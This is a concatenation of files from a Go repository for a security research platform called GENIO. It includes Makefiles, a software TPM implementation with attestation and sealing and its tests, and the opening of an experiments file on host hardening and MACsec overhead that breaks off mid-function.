GO ?= go
DATE := $(shell date +%Y%m%d)
SIM_SEED ?= 7
# GO_TAGS vets/builds alternative tag sets when the repo grows any.
GO_TAGS ?=
# Benchmarks gated against the committed BENCH_*.json baseline and the
# allowed regression (percent) — applied to ns/op, B/op, and allocs/op.
BENCH_GATE ?= EventSpine|IncidentFanIn|IncidentStorm|DeployParallel|DeploySequentialAdmission|DeployBatch|DeployAsyncPipelined|HTTPDeployThroughput|HTTPDeployBatch|WatchFanout100Subs|Schedule1kNodes|FailoverReschedule|WALDeployThroughput|WarmDeploy|ColdRepeatDeploy|RingLookup|FederatedDeploy
BENCH_THRESHOLD ?= 25
BENCH_BASELINE := $(lastword $(sort $(wildcard BENCH_*.json)))

.PHONY: build test race bench bench-json bench-diff fmt fmt-check vet staticcheck ci sim examples cover fuzz-smoke e2e

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

bench:
	$(GO) test -bench=. -benchmem -run='^$$' .

# bench-json records the perf trajectory: one JSON file per day, kept in
# the repo history so regressions are diffable.
bench-json:
	$(GO) test -bench=. -benchmem -run='^$$' -json . > BENCH_$(DATE).json

# bench-diff is the regression gate: rerun the gated benchmarks and
# compare ns/op against the newest committed baseline (>25% fails).
bench-diff:
	@test -n "$(BENCH_BASELINE)" || { echo "no BENCH_*.json baseline committed"; exit 2; }
	@new="$$(mktemp -t genio-bench-new.XXXXXX)"; \
	$(GO) test -bench='$(BENCH_GATE)' -benchmem -run='^$$' -count=2 -json . > "$$new" && \
	$(GO) run ./cmd/genio-benchdiff -baseline $(BENCH_BASELINE) -new "$$new" \
		-match '$(BENCH_GATE)' -threshold $(BENCH_THRESHOLD); \
	rc=$$?; rm -f "$$new"; exit $$rc

fmt:
	gofmt -l -w .

fmt-check:
	@out="$$(gofmt -l .)"; if [ -n "$$out" ]; then echo "gofmt needed on:"; echo "$$out"; exit 1; fi

vet:
	$(GO) vet -tags '$(GO_TAGS)' ./...

# staticcheck runs when the binary is installed (CI installs it; local
# runs skip gracefully so the toolchain stays dependency-free).
staticcheck:
	@if command -v staticcheck >/dev/null 2>&1; then \
		staticcheck ./...; \
	else \
		echo "staticcheck not installed; skipping (CI runs it)"; \
	fi

# sim runs every fault campaign twice and verifies byte-identical replay.
sim:
	$(GO) run ./cmd/genio-sim -campaign all -seed $(SIM_SEED) > /tmp/genio-sim-a.json
	$(GO) run ./cmd/genio-sim -campaign all -seed $(SIM_SEED) > /tmp/genio-sim-b.json
	cmp /tmp/genio-sim-a.json /tmp/genio-sim-b.json
	$(GO) run ./cmd/genio-sim -campaign all -seed $(SIM_SEED) -summary

examples:
	for d in examples/*/; do echo "=== $$d"; $(GO) run "./$$d" || exit 1; done

# e2e boots a real geniod and drives genioctl against it over the wire:
# deploy (placed + typed rejection), SSE watch, cordon/drain, nodes,
# then SIGTERM and a clean-shutdown assertion.
e2e:
	sh scripts/e2e.sh

cover:
	$(GO) test -coverprofile=coverage.out ./...
	$(GO) tool cover -func=coverage.out | tail -1

fuzz-smoke:
	$(GO) test -fuzz=FuzzParseXGEMFrame -fuzztime=15s ./internal/pon/
	$(GO) test -fuzz=FuzzONUDeliver -fuzztime=15s ./internal/pon/
	$(GO) test -fuzz=FuzzParseCondition -fuzztime=15s ./internal/falco/
	$(GO) test -fuzz=FuzzParseRule -fuzztime=15s ./internal/falco/

# ci mirrors the checks job of .github/workflows/ci.yml for local runs
# (the workflow's separate examples, coverage, and bench-regression jobs
# have their own targets: `make examples`, `make cover`, `make
# bench-diff`).
ci: build vet staticcheck fmt-check race sim fuzz-smoke
	$(GO) test -bench=. -benchtime=1x -run='^$$' .
