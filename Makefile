GO ?= go
DATE := $(shell date +%Y%m%d)

.PHONY: build test race bench bench-json fmt fmt-check vet ci

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

bench:
	$(GO) test -bench=. -benchmem -run='^$$' .

# bench-json records the perf trajectory: one JSON file per day, kept in
# the repo history so regressions are diffable.
bench-json:
	$(GO) test -bench=. -benchmem -run='^$$' -json . > BENCH_$(DATE).json

fmt:
	gofmt -l -w .

fmt-check:
	@out="$$(gofmt -l .)"; if [ -n "$$out" ]; then echo "gofmt needed on:"; echo "$$out"; exit 1; fi

vet:
	$(GO) vet ./...

# ci mirrors .github/workflows/ci.yml for local runs.
ci: build vet fmt-check race
	$(GO) test -bench=. -benchtime=1x -run='^$$' .
