GO ?= go
DATE := $(shell date +%Y%m%d)
SIM_SEED ?= 7

.PHONY: build test race bench bench-json fmt fmt-check vet ci sim examples cover fuzz-smoke

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

bench:
	$(GO) test -bench=. -benchmem -run='^$$' .

# bench-json records the perf trajectory: one JSON file per day, kept in
# the repo history so regressions are diffable.
bench-json:
	$(GO) test -bench=. -benchmem -run='^$$' -json . > BENCH_$(DATE).json

fmt:
	gofmt -l -w .

fmt-check:
	@out="$$(gofmt -l .)"; if [ -n "$$out" ]; then echo "gofmt needed on:"; echo "$$out"; exit 1; fi

vet:
	$(GO) vet ./...

# sim runs every fault campaign twice and verifies byte-identical replay.
sim:
	$(GO) run ./cmd/genio-sim -campaign all -seed $(SIM_SEED) > /tmp/genio-sim-a.json
	$(GO) run ./cmd/genio-sim -campaign all -seed $(SIM_SEED) > /tmp/genio-sim-b.json
	cmp /tmp/genio-sim-a.json /tmp/genio-sim-b.json
	$(GO) run ./cmd/genio-sim -campaign all -seed $(SIM_SEED) -summary

examples:
	for d in examples/*/; do echo "=== $$d"; $(GO) run "./$$d" || exit 1; done

cover:
	$(GO) test -coverprofile=coverage.out ./...
	$(GO) tool cover -func=coverage.out | tail -1

fuzz-smoke:
	$(GO) test -fuzz=FuzzParseXGEMFrame -fuzztime=15s ./internal/pon/
	$(GO) test -fuzz=FuzzONUDeliver -fuzztime=15s ./internal/pon/
	$(GO) test -fuzz=FuzzParseCondition -fuzztime=15s ./internal/falco/
	$(GO) test -fuzz=FuzzParseRule -fuzztime=15s ./internal/falco/

# ci mirrors the checks job of .github/workflows/ci.yml for local runs
# (the workflow's separate examples and coverage jobs have their own
# targets: `make examples`, `make cover`).
ci: build vet fmt-check race sim fuzz-smoke
	$(GO) test -bench=. -benchtime=1x -run='^$$' .
