module genio

go 1.24
