// Package tpm provides a software Trusted Platform Module used as the
// platform root of trust throughout GENIO.
//
// The paper (M5, M6) relies on a hardware TPM 2.0 for Measured Boot (PCR
// extension), remote attestation (quotes), and sealing disk-encryption keys
// against PCR policy. We do not have the silicon, so this package implements
// the same primitives in software with real cryptography: SHA-256 PCR banks,
// Ed25519 attestation keys, and AES-GCM sealed blobs whose release is gated
// on the current PCR state. The hash-chain and signature semantics — the
// part the security argument depends on — are identical to the hardware.
package tpm

import (
	"crypto/aes"
	"crypto/cipher"
	"crypto/ed25519"
	"crypto/rand"
	"crypto/sha256"
	"encoding/binary"
	"encoding/hex"
	"errors"
	"fmt"
	"io"
	"sort"
	"sync"
)

// PCRCount is the number of Platform Configuration Registers in the bank,
// matching the TPM 2.0 SHA-256 bank layout.
const PCRCount = 24

// Well-known PCR indices used by the GENIO boot chain, following the
// TCG PC Client profile conventions the paper's Measured Boot relies on.
const (
	PCRFirmware   = 0  // firmware / shim measurements
	PCRBootloader = 4  // GRUB measurements
	PCRKernel     = 8  // kernel and initrd measurements
	PCRConfig     = 9  // kernel command line and boot config
	PCRApp        = 14 // GENIO platform binaries (daemons, tools)
)

// Digest is a SHA-256 digest value.
type Digest [sha256.Size]byte

// String returns the digest in lowercase hex.
func (d Digest) String() string { return hex.EncodeToString(d[:]) }

// Event records a single measurement extended into a PCR, forming the
// TPM event log used to reconstruct and verify the hash chain.
type Event struct {
	PCR         int    `json:"pcr"`
	Description string `json:"description"`
	Measured    Digest `json:"measured"`
}

// Quote is a signed report of a subset of PCR values, used for remote
// attestation of node state (M5).
type Quote struct {
	PCRs      map[int]Digest `json:"pcrs"`
	Nonce     []byte         `json:"nonce"`
	Signature []byte         `json:"signature"`
}

// SealedBlob is a secret encrypted by the TPM such that it can only be
// unsealed while the selected PCRs hold the values they had at seal time.
// This mirrors TPM2 policy sessions used by LUKS/Clevis (M6).
type SealedBlob struct {
	PCRSelection []int  `json:"pcrSelection"`
	PolicyDigest Digest `json:"policyDigest"`
	Nonce        []byte `json:"nonce"`
	Ciphertext   []byte `json:"ciphertext"`
}

var (
	// ErrPolicyMismatch is returned by Unseal when the current PCR state
	// does not match the policy the blob was sealed against.
	ErrPolicyMismatch = errors.New("tpm: pcr policy mismatch")
	// ErrInvalidPCR is returned for PCR indices outside the bank.
	ErrInvalidPCR = errors.New("tpm: invalid pcr index")
	// ErrBadQuote is returned when quote verification fails.
	ErrBadQuote = errors.New("tpm: quote verification failed")
)

// TPM is a software TPM instance. The zero value is not usable; create
// instances with New. TPM is safe for concurrent use.
type TPM struct {
	mu      sync.Mutex
	pcrs    [PCRCount]Digest
	log     []Event
	ak      ed25519.PrivateKey // attestation key, never leaves the TPM
	akPub   ed25519.PublicKey
	srk     [32]byte // storage root key for sealing
	nv      map[string][]byte
	rand    io.Reader
	sealCnt int
}

// New creates a TPM with freshly generated attestation and storage keys.
func New() (*TPM, error) {
	return NewFromReader(rand.Reader)
}

// NewFromReader creates a TPM drawing key material from r. Tests pass a
// deterministic reader to get reproducible identities.
func NewFromReader(r io.Reader) (*TPM, error) {
	pub, priv, err := ed25519.GenerateKey(r)
	if err != nil {
		return nil, fmt.Errorf("generate attestation key: %w", err)
	}
	t := &TPM{ak: priv, akPub: pub, nv: make(map[string][]byte), rand: r}
	if _, err := io.ReadFull(r, t.srk[:]); err != nil {
		return nil, fmt.Errorf("generate storage root key: %w", err)
	}
	return t, nil
}

// AttestationPublicKey returns the public half of the attestation key.
// Verifiers use it to check quotes; it acts as the node's hardware identity.
func (t *TPM) AttestationPublicKey() ed25519.PublicKey {
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make(ed25519.PublicKey, len(t.akPub))
	copy(out, t.akPub)
	return out
}

// Extend folds data into the given PCR: pcr' = H(pcr || H(data)), recording
// the event in the log. This is the Measured Boot primitive (M5).
func (t *TPM) Extend(pcr int, description string, data []byte) (Digest, error) {
	if pcr < 0 || pcr >= PCRCount {
		return Digest{}, fmt.Errorf("%w: %d", ErrInvalidPCR, pcr)
	}
	measured := sha256.Sum256(data)
	t.mu.Lock()
	defer t.mu.Unlock()
	h := sha256.New()
	h.Write(t.pcrs[pcr][:])
	h.Write(measured[:])
	copy(t.pcrs[pcr][:], h.Sum(nil))
	t.log = append(t.log, Event{PCR: pcr, Description: description, Measured: measured})
	return t.pcrs[pcr], nil
}

// PCR returns the current value of a register.
func (t *TPM) PCR(pcr int) (Digest, error) {
	if pcr < 0 || pcr >= PCRCount {
		return Digest{}, fmt.Errorf("%w: %d", ErrInvalidPCR, pcr)
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.pcrs[pcr], nil
}

// EventLog returns a copy of the measurement log.
func (t *TPM) EventLog() []Event {
	t.mu.Lock()
	defer t.mu.Unlock()
	out := make([]Event, len(t.log))
	copy(out, t.log)
	return out
}

// ReplayLog recomputes the PCR values implied by events. Verifiers use it to
// check that a presented event log is consistent with a quote.
func ReplayLog(events []Event) map[int]Digest {
	pcrs := make(map[int]Digest)
	for _, e := range events {
		prev := pcrs[e.PCR]
		h := sha256.New()
		h.Write(prev[:])
		h.Write(e.Measured[:])
		var next Digest
		copy(next[:], h.Sum(nil))
		pcrs[e.PCR] = next
	}
	return pcrs
}

// Quote signs the selected PCR values together with a verifier-supplied
// nonce, producing an attestation statement.
func (t *TPM) Quote(pcrSelection []int, nonce []byte) (*Quote, error) {
	t.mu.Lock()
	defer t.mu.Unlock()
	q := &Quote{PCRs: make(map[int]Digest, len(pcrSelection)), Nonce: append([]byte(nil), nonce...)}
	for _, p := range pcrSelection {
		if p < 0 || p >= PCRCount {
			return nil, fmt.Errorf("%w: %d", ErrInvalidPCR, p)
		}
		q.PCRs[p] = t.pcrs[p]
	}
	q.Signature = ed25519.Sign(t.ak, quoteMessage(q.PCRs, nonce))
	return q, nil
}

// VerifyQuote checks a quote's signature against the claimed attestation key
// and, if expected is non-nil, that the quoted PCRs match expected values.
func VerifyQuote(pub ed25519.PublicKey, q *Quote, expected map[int]Digest) error {
	if q == nil {
		return fmt.Errorf("%w: nil quote", ErrBadQuote)
	}
	if !ed25519.Verify(pub, quoteMessage(q.PCRs, q.Nonce), q.Signature) {
		return fmt.Errorf("%w: bad signature", ErrBadQuote)
	}
	for pcr, want := range expected {
		got, ok := q.PCRs[pcr]
		if !ok {
			return fmt.Errorf("%w: pcr %d not quoted", ErrBadQuote, pcr)
		}
		if got != want {
			return fmt.Errorf("%w: pcr %d = %s, want %s", ErrBadQuote, pcr, got, want)
		}
	}
	return nil
}

func quoteMessage(pcrs map[int]Digest, nonce []byte) []byte {
	idx := make([]int, 0, len(pcrs))
	for p := range pcrs {
		idx = append(idx, p)
	}
	sort.Ints(idx)
	h := sha256.New()
	h.Write([]byte("genio-tpm-quote-v1"))
	h.Write(nonce)
	var buf [4]byte
	for _, p := range idx {
		binary.BigEndian.PutUint32(buf[:], uint32(p))
		h.Write(buf[:])
		d := pcrs[p]
		h.Write(d[:])
	}
	return h.Sum(nil)
}

// policyDigest computes the digest binding a seal operation to PCR state.
func (t *TPM) policyDigest(selection []int) (Digest, error) {
	sorted := append([]int(nil), selection...)
	sort.Ints(sorted)
	h := sha256.New()
	h.Write([]byte("genio-tpm-policy-v1"))
	var buf [4]byte
	for _, p := range sorted {
		if p < 0 || p >= PCRCount {
			return Digest{}, fmt.Errorf("%w: %d", ErrInvalidPCR, p)
		}
		binary.BigEndian.PutUint32(buf[:], uint32(p))
		h.Write(buf[:])
		h.Write(t.pcrs[p][:])
	}
	var d Digest
	copy(d[:], h.Sum(nil))
	return d, nil
}

// Seal encrypts secret so that Unseal succeeds only while the selected PCRs
// hold their current values. This is the Clevis/LUKS binding used by M6.
func (t *TPM) Seal(secret []byte, pcrSelection []int) (*SealedBlob, error) {
	t.mu.Lock()
	defer t.mu.Unlock()
	policy, err := t.policyDigest(pcrSelection)
	if err != nil {
		return nil, err
	}
	key := t.sealKey(policy)
	block, err := aes.NewCipher(key[:])
	if err != nil {
		return nil, fmt.Errorf("seal cipher: %w", err)
	}
	gcm, err := cipher.NewGCM(block)
	if err != nil {
		return nil, fmt.Errorf("seal gcm: %w", err)
	}
	nonce := make([]byte, gcm.NonceSize())
	if _, err := io.ReadFull(t.rand, nonce); err != nil {
		return nil, fmt.Errorf("seal nonce: %w", err)
	}
	t.sealCnt++
	ct := gcm.Seal(nil, nonce, secret, policy[:])
	sel := append([]int(nil), pcrSelection...)
	sort.Ints(sel)
	return &SealedBlob{PCRSelection: sel, PolicyDigest: policy, Nonce: nonce, Ciphertext: ct}, nil
}

// Unseal decrypts a sealed blob if and only if the current PCR state matches
// the policy the blob was sealed under.
func (t *TPM) Unseal(blob *SealedBlob) ([]byte, error) {
	if blob == nil {
		return nil, errors.New("tpm: nil blob")
	}
	t.mu.Lock()
	defer t.mu.Unlock()
	policy, err := t.policyDigest(blob.PCRSelection)
	if err != nil {
		return nil, err
	}
	if policy != blob.PolicyDigest {
		return nil, fmt.Errorf("%w: environment changed since seal", ErrPolicyMismatch)
	}
	key := t.sealKey(policy)
	block, err := aes.NewCipher(key[:])
	if err != nil {
		return nil, fmt.Errorf("unseal cipher: %w", err)
	}
	gcm, err := cipher.NewGCM(block)
	if err != nil {
		return nil, fmt.Errorf("unseal gcm: %w", err)
	}
	pt, err := gcm.Open(nil, blob.Nonce, blob.Ciphertext, policy[:])
	if err != nil {
		return nil, fmt.Errorf("%w: %v", ErrPolicyMismatch, err)
	}
	return pt, nil
}

func (t *TPM) sealKey(policy Digest) [32]byte {
	h := sha256.New()
	h.Write(t.srk[:])
	h.Write(policy[:])
	var key [32]byte
	copy(key[:], h.Sum(nil))
	return key
}

// NVWrite stores a small value in TPM non-volatile storage, used for trust
// anchors (e.g. the ONIE update public key backed by the TPM in M9).
func (t *TPM) NVWrite(index string, data []byte) {
	t.mu.Lock()
	defer t.mu.Unlock()
	t.nv[index] = append([]byte(nil), data...)
}

// NVRead returns a value from non-volatile storage.
func (t *TPM) NVRead(index string) ([]byte, bool) {
	t.mu.Lock()
	defer t.mu.Unlock()
	v, ok := t.nv[index]
	if !ok {
		return nil, false
	}
	return append([]byte(nil), v...), true
}

// SealCount reports how many seal operations have been performed; used by
// experiments to account for TPM interaction overheads.
func (t *TPM) SealCount() int {
	t.mu.Lock()
	defer t.mu.Unlock()
	return t.sealCnt
}
