package tpm

import (
	"bytes"
	"crypto/sha256"
	"errors"
	"testing"
	"testing/quick"
)

func newTestTPM(t *testing.T) *TPM {
	t.Helper()
	tp, err := New()
	if err != nil {
		t.Fatalf("New: %v", err)
	}
	return tp
}

func TestExtendChangesPCR(t *testing.T) {
	tp := newTestTPM(t)
	before, err := tp.PCR(PCRKernel)
	if err != nil {
		t.Fatalf("PCR: %v", err)
	}
	after, err := tp.Extend(PCRKernel, "kernel", []byte("vmlinuz"))
	if err != nil {
		t.Fatalf("Extend: %v", err)
	}
	if before == after {
		t.Fatal("Extend did not change PCR value")
	}
	got, err := tp.PCR(PCRKernel)
	if err != nil {
		t.Fatalf("PCR: %v", err)
	}
	if got != after {
		t.Fatalf("PCR readback = %s, want %s", got, after)
	}
}

func TestExtendIsDeterministicAcrossTPMs(t *testing.T) {
	a := newTestTPM(t)
	b := newTestTPM(t)
	inputs := [][]byte{[]byte("shim"), []byte("grub"), []byte("kernel")}
	var da, db Digest
	var err error
	for _, in := range inputs {
		if da, err = a.Extend(PCRFirmware, "x", in); err != nil {
			t.Fatalf("Extend a: %v", err)
		}
		if db, err = b.Extend(PCRFirmware, "x", in); err != nil {
			t.Fatalf("Extend b: %v", err)
		}
	}
	if da != db {
		t.Fatalf("same extend sequence produced different PCRs: %s vs %s", da, db)
	}
}

func TestExtendOrderMatters(t *testing.T) {
	a := newTestTPM(t)
	b := newTestTPM(t)
	if _, err := a.Extend(0, "", []byte("x")); err != nil {
		t.Fatal(err)
	}
	if _, err := a.Extend(0, "", []byte("y")); err != nil {
		t.Fatal(err)
	}
	if _, err := b.Extend(0, "", []byte("y")); err != nil {
		t.Fatal(err)
	}
	if _, err := b.Extend(0, "", []byte("x")); err != nil {
		t.Fatal(err)
	}
	pa, _ := a.PCR(0)
	pb, _ := b.PCR(0)
	if pa == pb {
		t.Fatal("PCR extension must not be commutative")
	}
}

func TestExtendInvalidPCR(t *testing.T) {
	tp := newTestTPM(t)
	if _, err := tp.Extend(PCRCount, "", nil); !errors.Is(err, ErrInvalidPCR) {
		t.Fatalf("err = %v, want ErrInvalidPCR", err)
	}
	if _, err := tp.Extend(-1, "", nil); !errors.Is(err, ErrInvalidPCR) {
		t.Fatalf("err = %v, want ErrInvalidPCR", err)
	}
	if _, err := tp.PCR(99); !errors.Is(err, ErrInvalidPCR) {
		t.Fatalf("err = %v, want ErrInvalidPCR", err)
	}
}

func TestReplayLogMatchesPCRs(t *testing.T) {
	tp := newTestTPM(t)
	steps := []struct {
		pcr  int
		data string
	}{
		{PCRFirmware, "shim"},
		{PCRBootloader, "grub"},
		{PCRKernel, "vmlinuz"},
		{PCRKernel, "initrd"},
		{PCRConfig, "cmdline"},
	}
	for _, s := range steps {
		if _, err := tp.Extend(s.pcr, s.data, []byte(s.data)); err != nil {
			t.Fatalf("Extend: %v", err)
		}
	}
	replayed := ReplayLog(tp.EventLog())
	for _, pcr := range []int{PCRFirmware, PCRBootloader, PCRKernel, PCRConfig} {
		want, _ := tp.PCR(pcr)
		if replayed[pcr] != want {
			t.Errorf("replay pcr %d = %s, want %s", pcr, replayed[pcr], want)
		}
	}
}

func TestQuoteVerifies(t *testing.T) {
	tp := newTestTPM(t)
	if _, err := tp.Extend(PCRKernel, "kernel", []byte("vmlinuz")); err != nil {
		t.Fatal(err)
	}
	nonce := []byte("verifier-nonce-123")
	q, err := tp.Quote([]int{PCRKernel, PCRConfig}, nonce)
	if err != nil {
		t.Fatalf("Quote: %v", err)
	}
	want, _ := tp.PCR(PCRKernel)
	if err := VerifyQuote(tp.AttestationPublicKey(), q, map[int]Digest{PCRKernel: want}); err != nil {
		t.Fatalf("VerifyQuote: %v", err)
	}
}

func TestQuoteRejectsTamperedPCR(t *testing.T) {
	tp := newTestTPM(t)
	q, err := tp.Quote([]int{PCRKernel}, []byte("n"))
	if err != nil {
		t.Fatal(err)
	}
	var forged Digest
	forged[0] = 0xff
	q.PCRs[PCRKernel] = forged
	if err := VerifyQuote(tp.AttestationPublicKey(), q, nil); !errors.Is(err, ErrBadQuote) {
		t.Fatalf("err = %v, want ErrBadQuote", err)
	}
}

func TestQuoteRejectsWrongKey(t *testing.T) {
	tp := newTestTPM(t)
	other := newTestTPM(t)
	q, err := tp.Quote([]int{PCRKernel}, []byte("n"))
	if err != nil {
		t.Fatal(err)
	}
	if err := VerifyQuote(other.AttestationPublicKey(), q, nil); !errors.Is(err, ErrBadQuote) {
		t.Fatalf("err = %v, want ErrBadQuote", err)
	}
}

func TestQuoteRejectsReplayedNonce(t *testing.T) {
	tp := newTestTPM(t)
	q, err := tp.Quote([]int{PCRKernel}, []byte("nonce-A"))
	if err != nil {
		t.Fatal(err)
	}
	// An attacker replays the quote but the verifier issued a new nonce:
	// the verifier checks q.Nonce, which no longer matches.
	if bytes.Equal(q.Nonce, []byte("nonce-B")) {
		t.Fatal("test setup broken")
	}
	q.Nonce = []byte("nonce-B") // forging the nonce invalidates the signature
	if err := VerifyQuote(tp.AttestationPublicKey(), q, nil); !errors.Is(err, ErrBadQuote) {
		t.Fatalf("err = %v, want ErrBadQuote", err)
	}
}

func TestQuoteMissingExpectedPCR(t *testing.T) {
	tp := newTestTPM(t)
	q, err := tp.Quote([]int{PCRKernel}, []byte("n"))
	if err != nil {
		t.Fatal(err)
	}
	err = VerifyQuote(tp.AttestationPublicKey(), q, map[int]Digest{PCRConfig: {}})
	if !errors.Is(err, ErrBadQuote) {
		t.Fatalf("err = %v, want ErrBadQuote", err)
	}
}

func TestSealUnsealRoundTrip(t *testing.T) {
	tp := newTestTPM(t)
	if _, err := tp.Extend(PCRKernel, "kernel", []byte("good-kernel")); err != nil {
		t.Fatal(err)
	}
	secret := []byte("luks-master-key")
	blob, err := tp.Seal(secret, []int{PCRKernel})
	if err != nil {
		t.Fatalf("Seal: %v", err)
	}
	got, err := tp.Unseal(blob)
	if err != nil {
		t.Fatalf("Unseal: %v", err)
	}
	if !bytes.Equal(got, secret) {
		t.Fatalf("Unseal = %q, want %q", got, secret)
	}
}

func TestUnsealFailsAfterPCRChange(t *testing.T) {
	tp := newTestTPM(t)
	if _, err := tp.Extend(PCRKernel, "kernel", []byte("good-kernel")); err != nil {
		t.Fatal(err)
	}
	blob, err := tp.Seal([]byte("secret"), []int{PCRKernel})
	if err != nil {
		t.Fatal(err)
	}
	// Simulate a tampered kernel being measured on next boot.
	if _, err := tp.Extend(PCRKernel, "kernel", []byte("evil-kernel")); err != nil {
		t.Fatal(err)
	}
	if _, err := tp.Unseal(blob); !errors.Is(err, ErrPolicyMismatch) {
		t.Fatalf("err = %v, want ErrPolicyMismatch", err)
	}
}

func TestUnsealIgnoresUnselectedPCRChanges(t *testing.T) {
	tp := newTestTPM(t)
	blob, err := tp.Seal([]byte("secret"), []int{PCRKernel})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := tp.Extend(PCRApp, "app", []byte("some-daemon")); err != nil {
		t.Fatal(err)
	}
	if _, err := tp.Unseal(blob); err != nil {
		t.Fatalf("Unseal after unrelated PCR change: %v", err)
	}
}

func TestUnsealRejectsTamperedCiphertext(t *testing.T) {
	tp := newTestTPM(t)
	blob, err := tp.Seal([]byte("secret"), []int{PCRKernel})
	if err != nil {
		t.Fatal(err)
	}
	blob.Ciphertext[0] ^= 0x01
	if _, err := tp.Unseal(blob); !errors.Is(err, ErrPolicyMismatch) {
		t.Fatalf("err = %v, want ErrPolicyMismatch", err)
	}
}

func TestUnsealNilBlob(t *testing.T) {
	tp := newTestTPM(t)
	if _, err := tp.Unseal(nil); err == nil {
		t.Fatal("Unseal(nil) succeeded")
	}
}

func TestSealInvalidPCRSelection(t *testing.T) {
	tp := newTestTPM(t)
	if _, err := tp.Seal([]byte("x"), []int{PCRCount + 1}); !errors.Is(err, ErrInvalidPCR) {
		t.Fatalf("err = %v, want ErrInvalidPCR", err)
	}
}

func TestNVStorage(t *testing.T) {
	tp := newTestTPM(t)
	if _, ok := tp.NVRead("missing"); ok {
		t.Fatal("NVRead of missing index reported ok")
	}
	tp.NVWrite("onie-trust-anchor", []byte("pubkey-bytes"))
	got, ok := tp.NVRead("onie-trust-anchor")
	if !ok || !bytes.Equal(got, []byte("pubkey-bytes")) {
		t.Fatalf("NVRead = %q, %v", got, ok)
	}
	// Mutating the returned slice must not affect stored state.
	got[0] = 'X'
	again, _ := tp.NVRead("onie-trust-anchor")
	if !bytes.Equal(again, []byte("pubkey-bytes")) {
		t.Fatal("NVRead returned aliased storage")
	}
}

// Property: extending with data d always yields H(prev || H(d)); the chain
// is reproducible from the event log regardless of the data content.
func TestExtendChainProperty(t *testing.T) {
	f := func(chunks [][]byte) bool {
		tp, err := New()
		if err != nil {
			return false
		}
		var prev Digest
		for _, c := range chunks {
			got, err := tp.Extend(PCRApp, "prop", c)
			if err != nil {
				return false
			}
			m := sha256.Sum256(c)
			h := sha256.New()
			h.Write(prev[:])
			h.Write(m[:])
			var want Digest
			copy(want[:], h.Sum(nil))
			if got != want {
				return false
			}
			prev = got
		}
		replay := ReplayLog(tp.EventLog())
		if len(chunks) == 0 {
			return len(replay) == 0
		}
		return replay[PCRApp] == prev
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}

// Property: seal/unseal round-trips arbitrary secrets while PCR state is
// unchanged.
func TestSealRoundTripProperty(t *testing.T) {
	tp := newTestTPM(t)
	f := func(secret []byte) bool {
		blob, err := tp.Seal(secret, []int{PCRKernel, PCRConfig})
		if err != nil {
			return false
		}
		got, err := tp.Unseal(blob)
		if err != nil {
			return false
		}
		return bytes.Equal(got, secret)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}
