package experiments

import (
	"fmt"
	"net/http/httptest"
	"strings"
	"time"

	"genio/internal/container"
	"genio/internal/dast"
	"genio/internal/falco"
	"genio/internal/fim"
	"genio/internal/host"
	"genio/internal/macsec"
	"genio/internal/orchestrator"
	"genio/internal/pki"
	"genio/internal/pon"
	"genio/internal/rbac"
	"genio/internal/sandbox"
	"genio/internal/sast"
	"genio/internal/sca"
	"genio/internal/scap"
	"genio/internal/storage"
	"genio/internal/tpm"
	"genio/internal/trace"
	"genio/internal/updates"
	"genio/internal/vuln"
)

// Lesson1 quantifies the ONL hardening gap: mainstream STIGs degrade to
// manual review on ONL, and hardening converges only after iterative
// adjustment.
func Lesson1() (string, error) {
	var b strings.Builder
	b.WriteString("Lesson 1: ONL lacks formal security guidelines; STIG/SCAP application\n")
	b.WriteString("requires iterative adaptation (paper: 'demanding iterative adjustments')\n\n")

	profiles := []scap.HostProfile{
		scap.SCAPBaselineProfile(), scap.STIGProfile(), scap.KernelHardeningProfile(),
	}
	for _, target := range []struct {
		name string
		h    *host.Host
	}{
		{"onl-debian10 (fresh OLT)", host.NewONLOLT("olt-fresh")},
		{"ubuntu22.04 (mainstream)", host.NewUbuntuServer("ubuntu-ref")},
	} {
		fmt.Fprintf(&b, "%s:\n", target.name)
		for _, p := range profiles {
			rep := scap.EvaluateHost(p, target.h)
			pass, fail, na, manual := rep.Counts()
			fmt.Fprintf(&b, "  %-26s pass=%d fail=%d n/a=%d manual=%d score=%.2f\n",
				p.Name, pass, fail, na, manual, rep.Score())
		}
	}

	// Iterative hardening loop on ONL.
	h := host.NewONLOLT("olt-iter")
	iterations, changes := 0, 0
	for ; iterations < 10; iterations++ {
		failing := 0
		for _, p := range profiles {
			_, f, _, _ := scap.EvaluateHost(p, h).Counts()
			failing += f
		}
		if failing == 0 {
			break
		}
		changes += host.HardenONLOLT(h)
	}
	fmt.Fprintf(&b, "\nhardening ONL to green: %d iteration(s), %d discrete changes\n", iterations, changes)

	// Residual manual items after hardening (the ONL adaptation debt).
	manualTotal := 0
	for _, p := range profiles {
		_, _, _, m := scap.EvaluateHost(p, h).Counts()
		manualTotal += m
	}
	fmt.Fprintf(&b, "residual manual-review items on hardened ONL: %d (0 expected on ubuntu)\n", manualTotal)
	return b.String(), nil
}

// Lesson2 measures the engineering cost of encryption: MACsec frame
// overhead, PON payload encryption overhead, and certificate-based
// onboarding cost across heterogeneous nodes.
func Lesson2() (string, error) {
	var b strings.Builder
	b.WriteString("Lesson 2: encryption imposes engineering effort and compute cost\n")
	b.WriteString("(paper: overhead must be paid; certificate management is the hard part)\n\n")

	const frames = 20000
	payload := make([]byte, 1024)

	// MACsec on/off throughput.
	a, z := macsec.NewSecY("olt"), macsec.NewSecY("core")
	var key [32]byte
	key[0] = 1
	if _, err := macsec.NewChannel(a, z, key, 64); err != nil {
		return "", err
	}
	start := time.Now()
	for i := 0; i < frames; i++ {
		pf, err := a.Protect(0, macsec.Frame{Payload: payload})
		if err != nil {
			return "", err
		}
		if _, err := z.Validate(pf); err != nil {
			return "", err
		}
	}
	encElapsed := time.Since(start)

	start = time.Now()
	sink := 0
	for i := 0; i < frames; i++ {
		cp := make([]byte, len(payload))
		sink += copy(cp, payload)
	}
	plainElapsed := time.Since(start)
	_ = sink

